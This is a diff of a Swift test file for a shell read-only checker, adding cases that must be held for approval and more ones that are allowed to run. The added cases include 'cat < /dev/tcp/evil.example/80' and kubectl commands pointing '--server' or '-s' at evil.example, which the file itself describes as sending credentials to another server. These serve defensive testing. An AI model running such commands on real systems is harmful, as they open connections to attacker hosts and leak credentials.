@@ -127,6 +127,11 @@ struct ReadOnlyCheckTests {
         ("ss --ki dst 10.0.0.1", "ss --ki can change things"),
         ("ss -D ~/.bashrc", "ss -D can change things"),
         ("ls >&\u{663}", "writes to \u{663}"),
+        ("echo $[PATH=0]", "runs another command first"),
+        ("sort $=X", "$=X could become an option of sort voicesh cannot see"),
+        ("cat < /dev/tcp/evil.example/80", "opens a network connection to evil.example/80"),
+        ("kubectl get pods --server=https://evil.example", "kubectl get --server can change things"),
+        ("kubectl get pods -shttps://evil.example", "kubectl -s sends your credentials to another server"),
     ]
 
     @Test(arguments: notKnownHarmless) func waits(_ line: String, why: String) {
@@ -145,6 +150,7 @@ struct ReadOnlyCheckTests {
         "ls # rm -rf /", "tail -n 50 app.log", "cat a | head", "echo ${HOME}", "git -C repo log -p -- src",
         "printf '%s\\n' hi", "systemctl --user status x", "docker logs -f web", "kubectl get pods -o wide",
         "ip -br a", "git --no-pager log --oneline", "ls -- -x", "echo caf\u{65}\u{301}", "echo a != b",
+        "kubectl get pods -ojson --sort-by=.metadata.name", "cat < notes.txt",
     ]
 
     @Test(arguments: harmless) func runs(_ line: String) {
